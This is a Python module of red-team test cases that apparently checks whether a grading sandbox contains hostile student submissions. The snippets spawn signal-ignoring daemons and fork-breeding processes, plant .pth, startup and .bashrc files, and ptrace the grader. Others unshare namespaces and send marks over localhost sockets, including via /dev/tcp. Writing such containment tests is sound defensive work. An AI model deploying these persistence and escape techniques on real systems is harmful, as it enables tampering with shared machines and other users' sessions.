"""Class e: the network, what outlives a submission, and what the next student meets."""

from tests.redteam.corpus.base import Attack, Make, answering, hostile


def _attack(number: str, title: str, make: Make) -> Attack:
    return Attack(number, title, "e", make, "no_harm")


_CONNECT = """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=3) as peer:
    peer.sendall(MARK.encode())
"""

# A child in a session of its own. It ends by itself after 20 s.
_DAEMON = """
import subprocess
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(20)", MARK],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
"""

_PTH = """
wanted = {SITE, *(p for p in sys.path if p.endswith("site-packages"))}
for folder in wanted:
    # Only a folder that was made for the attacks carries this file.
    if os.path.exists(os.path.join(folder, "MADE_FOR_ATTACKS")):
        open(os.path.join(folder, MARK + ".pth"), "w").write("import sys")
"""

_STARTUP = """
for home in {HOME, os.path.expanduser("~")}:
    if home.startswith((ROOT, "/tmp/")):
        folder = os.path.join(home, ".ipython/profile_default/startup")
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, f"00-{MARK}.py"), "w").write("x = 1")
"""

_TEMPORARY = """
import tempfile
for folder in {"/tmp", "/var/tmp", "/dev/shm", TMP, tempfile.gettempdir()}:
    try:
        open(os.path.join(folder, "kept-" + MARK), "w").write("for the next student")
    except OSError:
        pass
"""

_DOUBLE_FORK = """
import signal
if os.fork() == 0:
    if os.fork() == 0:
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        for leave in (os.setsid, lambda: os.setpgid(0, 0)):
            try:
                leave()
            except OSError:
                pass
        rename_process()
        os.closerange(0, 200)
        time.sleep(20)
        os._exit(0)
    os._exit(0)
os.wait()
"""

_BREEDING = """
import signal
# Each child makes the next and ends, so that whoever kills one by one comes too late. 400 generations, 15 s.
if os.fork() == 0:
    rename_process()
    end = time.monotonic() + 15
    for generation in range(400):
        time.sleep(0.03)
        if os.fork() or time.monotonic() > end:
            os._exit(0)
    time.sleep(3)
    os._exit(0)
"""

_OTHER_SOCKETS = """
import socket
tries = [
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(MARK.encode(), ("127.0.0.1", PORT)),
    lambda: socket.create_connection(("localhost", PORT), timeout=2).sendall(MARK.encode()),
    lambda: socket.create_connection(("::ffff:127.0.0.1", PORT), timeout=2).sendall(MARK.encode()),
]
def abstract():
    peer = socket.socket(socket.AF_UNIX)
    peer.connect("\\0" + "redteam" + str(PORT))
    peer.sendall(MARK.encode())
def urllib():
    import urllib.request
    urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{MARK}", timeout=2)
def by_command():
    import subprocess
    subprocess.run(["bash", "-c", f"echo {MARK} > /dev/tcp/127.0.0.1/{PORT}"], timeout=3)
def by_number():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.syscall(41, 2, 1, 0)
    if descriptor < 0:
        raise OSError
    socket.socket(fileno=descriptor).connect(("127.0.0.1", PORT))
for way in [*tries, abstract, urllib, by_command, by_number]:
    try:
        way()
    except Exception:
        continue
"""

_SHARED_MEMORY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
key = PORT | 0x52540000
if libc.shmget(key, 4096, 0o1666) >= 0:
    harm("sysv-shared-memory")
if libc.msgget(key, 0o1666) >= 0:
    harm("sysv-queue")
# A key in the user's keyring outlives the process; this one ends after 20 s.
libc.syscall.restype = ctypes.c_long
number = libc.syscall(248, b"user", MARK.encode(), b"x", 1, -4)
if number > 0:
    libc.syscall(250, 15, number, 20)
    harm("keyring")
from multiprocessing import shared_memory
try:
    memory = shared_memory.SharedMemory("kept-" + MARK, create=True, size=64)
    from multiprocessing import resource_tracker
    resource_tracker.unregister(memory._name, "shared_memory")
except OSError:
    pass
"""

_CONFIGURATION = """
homes = [home for home in {HOME, os.path.expanduser("~")} if home.startswith((ROOT, "/tmp/"))]
names = [".jupyter/jupyter_config.py", ".jupyter/nbgrader_config.py", ".config/matplotlib/matplotlibrc", ".bashrc",
         ".local/lib/python3.11/site-packages/usercustomize.py", ".cache/" + MARK]
for home in homes:
    for name in names:
        place = os.path.join(home, name)
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            open(place, "a").write("# " + MARK + "\\n")
        except OSError:
            pass
for folder in (COURSE, os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))):
    if folder.startswith((ROOT, "/tmp/judge")):
        try:
            open(os.path.join(folder, f"config_{MARK}.py"), "w").write("# hello")
        except OSError:
            pass
"""

_TRACE = """
import ctypes, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
for pid in parents()[:1]:
    if libc.ptrace(0x4206, pid, 0, 0) == 0:
        harm("traced")
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, resource.prlimit(pid, resource.RLIMIT_NOFILE))
        harm("limits")
    except (OSError, PermissionError):
        pass
    try:
        os.kill(pid, signal.SIGWINCH)
        harm("signalled")
    except OSError:
        pass
    try:
        os.close(os.pidfd_open(pid))
        descriptor = libc.syscall(438, os.pidfd_open(pid), 0, 0)
        if descriptor >= 0:
            harm("descriptor-of-the-grader")
    except OSError:
        pass
"""

_NAMESPACES = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
# In a child: what it joins or leaves ends with it.
if os.fork() == 0:
    rename_process()
    import signal
    signal.alarm(10)
    for name, flags in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000)):
        if libc.unshare(flags) == 0:
            open("namespace-" + name, "w").close()
    os._exit(0)
os.wait()
for name in ("user", "mount", "network"):
    if os.path.exists("namespace-" + name):
        harm("namespace-" + name)
"""

_CANCELLED_EXIT = """
import atexit, signal, threading, weakref
def stay():
    time.sleep(15)
atexit.register(stay)
threading.Thread(target=stay).start()
class Late:
    def __del__(self):
        time.sleep(5)
keep = Late()
weakref.finalize(keep, stay)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
rename_process()
"""

_LATER = """
child = os.fork()
if child == 0:
    rename_process()
    time.sleep(6)
    os._exit(0)
raise ValueError
"""

ATTACKS = (
    _attack("e01", "a connection to a server on this machine", hostile(_CONNECT)),
    _attack("e02", "a process in a session of its own stays", hostile(_DAEMON)),
    _attack("e03", "a .pth file in the shared site-packages", hostile(_PTH)),
    _attack("e04", "a start-up file in the grader's home", hostile(_STARTUP)),
    _attack("e07", "files in /tmp, /var/tmp and /dev/shm", hostile(_TEMPORARY)),
    _attack("e40", "a daemon by two forks that ignores signals", hostile(_DOUBLE_FORK)),
    _attack("e41", "processes that breed faster than they are killed", hostile(_BREEDING)),
    _attack("e42", "UDP, IPv6, abstract sockets, commands and raw system calls", hostile(_OTHER_SOCKETS)),
    _attack("e43", "System V memory, queues, the keyring, shared memory", hostile(_SHARED_MEMORY)),
    _attack("e44", "configuration of the tools that the next run reads", hostile(_CONFIGURATION)),
    _attack("e45", "ptrace, limits, signals and descriptors of the process above", hostile(_TRACE)),
    _attack("e46", "new namespaces", hostile(_NAMESPACES)),
    _attack("e47", "exit handlers and threads that put the end off", hostile(_CANCELLED_EXIT)),
    _attack("e48", "a child left behind by a call of the test", answering(_LATER)),
)
